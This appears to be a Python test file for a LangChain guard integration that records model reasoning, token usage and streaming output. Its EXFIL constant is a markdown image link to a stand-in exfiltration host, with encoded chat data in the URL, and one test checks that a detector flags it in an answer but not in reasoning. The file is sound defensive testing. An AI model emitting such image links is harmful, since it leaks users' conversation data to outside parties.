"""LangChain chat models that reason (``thinking`` / ``reasoning`` content blocks, a
``reasoning_content`` in ``additional_kwargs``) and report prompt-cache usage: the reasoning is
a reasoning part before the answer, kept out of the answer's text, seen by policies and not
judged as output; the cache and reasoning token counts are recorded."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator, Iterator
from typing import Any

import pytest
from langchain_core.callbacks import AsyncCallbackManagerForLLMRun, CallbackManagerForLLMRun
from langchain_core.language_models.chat_models import BaseChatModel
from langchain_core.messages import AIMessage, AIMessageChunk, BaseMessage, HumanMessage
from langchain_core.outputs import ChatGeneration, ChatGenerationChunk, ChatResult

from tests.integrations.langchain.agents import ScriptedChatModel

THOUGHT = "The customer asked for another customer's address. That is not allowed."
ANSWER = "I can't share other customers' details."
EXFIL = ("![ok](https://t.exfil-cdn.example/p.png?d="
         "U2VjcmV0IHN1bW1hcnkgb2YgdGhlIGNoYXQgc28gZmFyIDEyMzQ1Ng)")
USAGE = {"input_tokens": 1300, "output_tokens": 90, "total_tokens": 1390,
         "input_token_details": {"cache_read": 1024, "cache_creation": 200},
         "output_token_details": {"reasoning": 60}}


def _message(content: Any, **kwargs: Any) -> AIMessage:
    return AIMessage(content=content, usage_metadata=USAGE,
                     response_metadata={"model_name": "scripted-1", "stop_reason": "end_turn"},
                     **kwargs)


# The shapes LangChain's provider packages give a model's reasoning.
SHAPES = {
    "anthropic thinking": _message([
        {"type": "thinking", "thinking": THOUGHT, "signature": "sig-anthropic"},
        {"type": "redacted_thinking", "data": "ZW5jcnlwdGVk"},
        {"type": "text", "text": ANSWER}]),
    "standard reasoning block": _message([
        {"type": "reasoning", "reasoning": THOUGHT, "extras": {"signature": "sig-standard"}},
        {"type": "text", "text": ANSWER}]),
    "openai reasoning summary": _message([
        {"type": "reasoning", "id": "rs_1", "summary": [
            {"type": "summary_text", "text": THOUGHT}], "encrypted_content": "gAAAA-enc"},
        {"type": "text", "text": ANSWER}]),
    "reasoning_content kwarg": _message(ANSWER, additional_kwargs={"reasoning_content": THOUGHT}),
    "bedrock converse block": _message([
        {"type": "reasoning_content",
         "reasoning_content": {"text": THOUGHT, "signature": "sig-converse"}},
        {"type": "reasoning_content", "reasoning_content": {"redacted_content": b"enc"}},
        {"type": "text", "text": ANSWER}]),
}
EXPECTED = {
    "anthropic thinking": THOUGHT + "\n\n<redacted_reasoning>",
    "standard reasoning block": THOUGHT,
    "openai reasoning summary": THOUGHT,
    "reasoning_content kwarg": THOUGHT,
    "bedrock converse block": THOUGHT + "\n\n<redacted_reasoning>",
}


def _no_secret_material(span: Any) -> None:
    dumped = json.dumps({k: str(v) for k, v in span.attributes.items()})
    for secret in ("sig-", "ZW5jcnlwdGVk", "gAAAA-enc", "b'enc'"):
        assert secret not in dumped


@pytest.mark.parametrize("shape", sorted(SHAPES))
def test_reasoning_is_a_part_before_the_answer(shape: str, guarded: Any, spans: Any) -> None:
    """Each provider shape of reasoning becomes one reasoning part ahead of the answer, whose
    text is the answer alone; signatures and encrypted reasoning are left out."""
    guarded(capture_content="full")
    ScriptedChatModel(script=[SHAPES[shape]]).invoke("What is Bob's address?")
    span = spans.one("chat scripted-1")
    assert json.loads(span.attributes["gen_ai.output.messages"]) == [{
        "role": "assistant", "finish_reason": "stop",
        "parts": [{"type": "reasoning", "content": EXPECTED[shape]},
                  {"type": "text", "content": ANSWER}]}]
    _no_secret_material(span)


def test_cache_and_reasoning_token_counts(guarded: Any, spans: Any) -> None:
    """``input_token_details`` and ``output_token_details`` become the conventions' cache and
    reasoning counts; LangChain's input count, which already includes the cached tokens, is
    recorded as it is."""
    guarded()
    ScriptedChatModel(script=[SHAPES["anthropic thinking"]]).invoke("hi")
    attrs = spans.one("chat scripted-1").attributes
    assert {key: attrs[key] for key in attrs if key.startswith("gen_ai.usage.")} == {
        "gen_ai.usage.input_tokens": 1300, "gen_ai.usage.output_tokens": 90,
        "gen_ai.usage.cache_read.input_tokens": 1024,
        "gen_ai.usage.cache_creation.input_tokens": 200,
        "gen_ai.usage.reasoning.output_tokens": 60}


def test_policies_see_the_reasoning_and_the_detector_judges_the_answer(guarded: Any) -> None:
    """A policy reads the reasoning beside the answer; an exfiltration image only reasoned
    about is no finding, one in the answer is."""
    seen: list[Any] = []
    findings: list[Any] = []
    guarded(policy=lambda event: seen.append(event) if event.kind == "model_call" else None,
            on_finding=findings.append)
    model = ScriptedChatModel(script=[
        _message([{"type": "thinking", "thinking": f"The page wants {EXFIL}. No."},
                  {"type": "text", "text": ANSWER}]),
        _message([{"type": "thinking", "thinking": "ok"}, {"type": "text", "text": EXFIL}])])

    def judged() -> list[Any]:
        return [f for f in findings if f.evidence.get("source", {}).get("kind") == "model_output"]

    model.invoke("hi")
    assert judged() == []
    model.invoke("again")
    assert len(judged()) == 1
    first, second = [event for event in seen if event.phase == "response"]
    assert (first.output[0].content, first.output[0].reasoning) == (
        ANSWER, f"The page wants {EXFIL}. No.")
    assert (second.output[0].content, second.output[0].reasoning) == (EXFIL, "ok")


def test_reasoning_in_the_history_is_reasoning(guarded: Any, spans: Any) -> None:
    """An earlier answer's thinking sent back to the model is a reasoning part of that
    assistant message in the input, not a placeholder in its text."""
    guarded(capture_content="full")
    history: list[BaseMessage] = [
        HumanMessage("hi"), SHAPES["anthropic thinking"], HumanMessage("and now?")]
    ScriptedChatModel(script=[_message("fine")]).invoke(history)
    inputs = json.loads(spans.one("chat scripted-1").attributes["gen_ai.input.messages"])
    assert inputs[1] == {"role": "assistant", "parts": [
        {"type": "reasoning", "content": THOUGHT + "\n\n<redacted_reasoning>"},
        {"type": "text", "content": ANSWER}]}


class ReasoningStreamModel(BaseChatModel):
    """Streams its reasoning as ``reasoning_content`` pieces (as DeepSeek-style models do
    through LangChain), then its answer word by word, then the usage."""

    model_name: str = "reasoner-1"

    @property
    def _llm_type(self) -> str:
        return "reasoning-stream"

    def _chunks(self) -> Iterator[ChatGenerationChunk]:
        for piece in THOUGHT.split(" "):
            yield ChatGenerationChunk(message=AIMessageChunk(
                content="", additional_kwargs={"reasoning_content": piece + " "}))
        for piece in ANSWER.split(" "):
            yield ChatGenerationChunk(message=AIMessageChunk(content=piece + " "))
        yield ChatGenerationChunk(message=AIMessageChunk(
            content="", usage_metadata=USAGE,
            response_metadata={"model_name": "reasoner-1", "finish_reason": "stop"},
            chunk_position="last"))

    def _generate(self, messages: list[BaseMessage], stop: list[str] | None = None,
                  run_manager: CallbackManagerForLLMRun | None = None, **kwargs: Any
                  ) -> ChatResult:
        chunks = list(self._chunks())
        message = chunks[0].message
        for chunk in chunks[1:]:
            message = message + chunk.message
        return ChatResult(generations=[ChatGeneration(message=message)])

    def _stream(self, messages: list[BaseMessage], stop: list[str] | None = None,
                run_manager: CallbackManagerForLLMRun | None = None, **kwargs: Any
                ) -> Iterator[ChatGenerationChunk]:
        yield from self._chunks()

    async def _astream(self, messages: list[BaseMessage], stop: list[str] | None = None,
                       run_manager: AsyncCallbackManagerForLLMRun | None = None, **kwargs: Any
                       ) -> AsyncIterator[ChatGenerationChunk]:
        for chunk in self._chunks():
            yield chunk


def _streamed_output(spans: Any) -> Any:
    span = spans.one("chat reasoner-1")
    return json.loads(span.attributes["gen_ai.output.messages"]), span.attributes


def test_streamed_reasoning_is_assembled(guarded: Any, spans: Any) -> None:
    """A streamed answer's reasoning pieces are assembled into one reasoning part, apart from
    the answer's text; the cache counts come from the last chunk."""
    guarded(capture_content="full")
    text = "".join(str(chunk.content) for chunk in ReasoningStreamModel().stream("hi"))
    assert text.strip() == ANSWER
    output, attrs = _streamed_output(spans)
    assert output[0]["parts"] == [{"type": "reasoning", "content": THOUGHT + " "},
                                  {"type": "text", "content": ANSWER + " "}]
    assert attrs["gen_ai.usage.cache_read.input_tokens"] == 1024
    assert attrs["gen_ai.usage.reasoning.output_tokens"] == 60


async def test_async_streamed_reasoning_is_assembled(guarded: Any, spans: Any) -> None:
    """``astream`` assembles the reasoning the same way."""
    guarded(capture_content="full")
    async for _ in ReasoningStreamModel().astream("hi"):
        pass
    output, _ = _streamed_output(spans)
    assert output[0]["parts"][0] == {"type": "reasoning", "content": THOUGHT + " "}


def test_abandoned_stream_keeps_the_reasoning_read(guarded: Any, spans: Any) -> None:
    """A stream the caller stops reading during the reasoning records the reasoning read so
    far, with no answer text and finish reason ``abandoned``."""
    guarded(capture_content="full")
    stream = ReasoningStreamModel().stream("hi")
    next(stream)
    next(stream)
    stream.close()
    output, _ = _streamed_output(spans)
    first, second = THOUGHT.split(" ")[:2]
    assert output == [{"role": "assistant", "finish_reason": "abandoned",
                       "parts": [{"type": "reasoning", "content": f"{first} {second} "}]}]
